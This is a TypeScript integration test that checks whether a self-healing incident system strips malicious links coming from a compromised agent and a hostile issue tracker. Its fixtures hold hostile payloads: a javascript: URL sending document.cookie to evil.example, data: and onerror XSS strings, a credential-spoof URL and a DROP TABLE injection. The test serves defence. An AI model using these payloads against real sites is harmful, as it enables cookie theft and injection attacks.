// A hostile Doctor agent's answer (docs/security.md "Agents"): whatever a compromised agent returns as its
// activity result, only the documented shape reaches Postgres, the API, the next action's templates and
// the PagerDuty note. Links are kept only as plain http(s) URLs. Real Temporal, real Postgres, a
// PagerDuty peer, and an agent worker that answers like a compromised one.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { Worker } from '@temporalio/worker';
import { agentTaskQueue } from '../../src/temporal/names.js';
import { startHttpPeer, type HttpPeer } from '../helpers/http-peer.js';
import { startPagerDutyPeer, type PagerDutyPeer } from '../helpers/pagerduty-peer.js';
import { newIncidentId, sampleFor } from '../helpers/samples.js';
import { eventually, startStack, type Stack } from '../helpers/stack.js';

const GOOD = 'https://ci.example.com/runs/42?tab=log#L7';
/** What the compromised agent answers, per script name. */
const ANSWERS: Record<string, unknown> = {
  'js.sh': { exitCode: 0, outputExcerpt: 'ok', link: 'javascript:fetch("https://evil.example/"+document.cookie)' },
  'js-case.sh': { exitCode: 0, outputExcerpt: 'ok', link: ' JaVaScRiPt:alert(1)' },
  'data.sh': { exitCode: 0, outputExcerpt: 'ok', link: 'data:text/html,<script>alert(1)</script>' },
  'long.sh': { exitCode: 0, outputExcerpt: 'ok', link: `https://ci.example.com/${'a'.repeat(5000)}` },
  'creds.sh': { exitCode: 0, outputExcerpt: 'ok', link: 'https://ci.example.com@evil.example/login' },
  'quote.sh': { exitCode: 0, outputExcerpt: 'ok', link: 'https://ci.example.com/"><img src=x onerror=alert(1)>' },
  'good.sh': { exitCode: 0, outputExcerpt: 'ok', link: GOOD },
  // Postgres text and jsonb cannot hold NUL: before, the record failed and retried for ever, and so did
  // the claim of every later action templating this output.
  'nul.sh': { exitCode: 3, outputExcerpt: 'before\u0000after', error: 'bad\u0000error' },
  // Wrong types everywhere: before, the record activity failed on them and retried for ever.
  'garbage.sh': { exitCode: '0; DROP TABLE action_runs', outputExcerpt: { nested: { deep: true } }, error: ['x'], link: 42 },
};

describe('security: a hostile agent result', function () {
  this.timeout(180_000);
  const PD_TOKEN = 'pd-agent-results-token';
  let stack: Stack;
  let pd: PagerDutyPeer;
  let agent: Worker;
  let agentRunning: Promise<void>;
  /** A tracker that answers like a compromised one: its issue URL is a script. */
  let tracker: HttpPeer;
  const suffix = randomUUID().slice(0, 6);
  const env = `hostile-${suffix}`;
  const serviceId = `PAR${randomUUID().replace(/-/g, '').slice(0, 6).toUpperCase()}`;

  before(async function () {
    pd = await startPagerDutyPeer({ token: PD_TOKEN });
    tracker = await startHttpPeer([
      { method: 'POST', path: '/repos/acme/ops/issues', handle: () => ({ status: 201, json: { number: 7, html_url: 'javascript:alert(document.domain)//' } }) },
      { method: 'GET', path: '/repos/acme/ops/issues', handle: () => ({ status: 200, json: [] }) },
    ]);
    process.env.GITHUB_TOKEN = 'gh-agent-results-token';
    stack = await startStack({
      env: {
        PAGERDUTY_API_URL: pd.url,
        PAGERDUTY_API_TOKEN: PD_TOKEN,
        PAGERDUTY_FROM_EMAIL: 'selfheal@example.com',
        ACTION_EGRESS_ALLOW: '127.0.0.1/32',
        GITHUB_API_URL: tracker.url,
        GITHUB_TOKEN: 'gh-agent-results-token',
      },
      extractors: { serviceMap: { [serviceId]: { environment: env } } },
    });
    agent = await Worker.create({
      connection: stack.temporal.nativeConnection,
      namespace: stack.config.temporal.namespace,
      taskQueue: agentTaskQueue(env),
      activities: { runAgentScript: async (input: { script: string }) => ANSWERS[input.script] },
    });
    agentRunning = agent.run();
    const res = await stack.api('/api/environments', { method: 'POST', body: JSON.stringify({ name: env }) });
    assert.equal(res.status, 201, await res.clone().text());
  });

  after(async function () {
    agent?.shutdown();
    await agentRunning;
    await stack?.stop();
    await pd?.close();
    await tracker?.close();
    delete process.env.GITHUB_TOKEN;
  });

  it('keeps only safe http(s) links, everywhere a link is stored or shown, and never gets stuck on wrong types', async function () {
    const scripts = Object.keys(ANSWERS);
    const ids = scripts.map((s) => s.replace(/\.sh$/, '').replace(/-/g, '_'));
    const rule = {
      name: `hostile-agent-${suffix}`,
      services: [serviceId],
      actions: [
        ...scripts.map((script, i) => ({ id: ids[i], type: 'script.agent', script, when: 'always' })),
        { id: 'ticket', type: 'workitem', provider: 'github', repo: 'acme/ops', title: 'hostile tracker', when: 'always' },
        { id: 'tell', type: 'pagerduty.note', when: 'always', content: `${[...ids, 'ticket'].map((id) => `${id}=[{{ results.${id}.link }}]`).join(' ')} nul=[{{ results.nul.outputExcerpt }}]` },
      ],
    };
    const created = await stack.api('/api/rules', { method: 'POST', body: JSON.stringify(rule) });
    assert.equal(created.status, 201, await created.clone().text());
    const incidentId = newIncidentId();
    const delivered = await stack.deliver(sampleFor('v3-incident.triggered-01.json', incidentId, { data: { service: { id: serviceId, type: 'service_reference', summary: 'x' } } }));
    assert.equal(delivered.status, 202);

    const runs = await eventually(async () => {
      const r = await stack.db.db.selectFrom('action_runs').selectAll().where('incident_id', '=', incidentId).orderBy('action_index').execute();
      return r.length === ids.length + 2 && r.every((x) => x.finished_at) ? r : undefined;
    }, 120_000, 'every action finished');
    const byId = new Map(runs.map((r) => [r.action_id, r]));

    // Postgres: only the good link is stored.
    for (const id of ids) assert.equal(byId.get(id)!.link, id === 'good' ? GOOD : null, `${id}: stored link`);
    // The tracker's script URL is dropped the same way; the ticket itself was opened.
    assert.equal(byId.get('ticket')!.status, 'succeeded');
    assert.equal(byId.get('ticket')!.link, null);
    assert.equal(tracker.requests.filter((r) => r.method === 'POST').length, 1);
    // The wrong types became a failed run that says why, not a run stuck retrying its record.
    const garbage = byId.get('garbage')!;
    assert.equal(garbage.status, 'failed');
    assert.equal(garbage.exit_code, null);
    assert.equal(garbage.output_excerpt, null);
    assert.match(garbage.error ?? '', /no exit code/);
    assert.equal(byId.get('tell')!.status, 'succeeded');
    const nul = byId.get('nul')!;
    assert.equal(nul.status, 'failed');
    assert.equal(nul.exit_code, 3);
    assert.equal(nul.output_excerpt, 'before\uFFFDafter');
    assert.equal(nul.error, 'bad\uFFFDerror');

    // The API.
    const res = await stack.api(`/api/incidents/${incidentId}`);
    assert.equal(res.status, 200);
    const body = (await res.json()) as { actionRuns: { actionId: string; link: string | null }[] };
    for (const r of body.actionRuns) assert.ok(r.link === null || r.link === GOOD, `${r.actionId}: API link ${String(r.link)}`);

    // PagerDuty: the templated note and the run's summary note carry the good link and none of the others.
    const notes = await eventually(async () => {
      const n = pd.notes(incidentId).map((x) => x.content);
      return n.length >= 2 ? n : undefined;
    }, 60_000, 'the note action and the summary note');
    const all = notes.join('\n');
    assert.ok(all.includes(`good=[${GOOD}]`), 'the templated note has the good link');
    assert.ok(all.split(GOOD).length - 1 >= 2, 'the summary note lists the good link too');
    for (const bad of [/javascript:/i, /data:text/, /evil\.example/, /aaaaaaaaaa/, /onerror/, /DROP TABLE/]) assert.doesNotMatch(all, bad);
    assert.match(all, /js=\[\] /, 'a dropped link templates as empty');
    assert.match(all, /ticket=\[\]/, "the tracker's link too");
    assert.doesNotMatch(all, /document\.domain/);
    assert.ok(all.includes('nul=[before\uFFFDafter]'), 'the output with NUL reached the next action, as U+FFFD');
  });
});
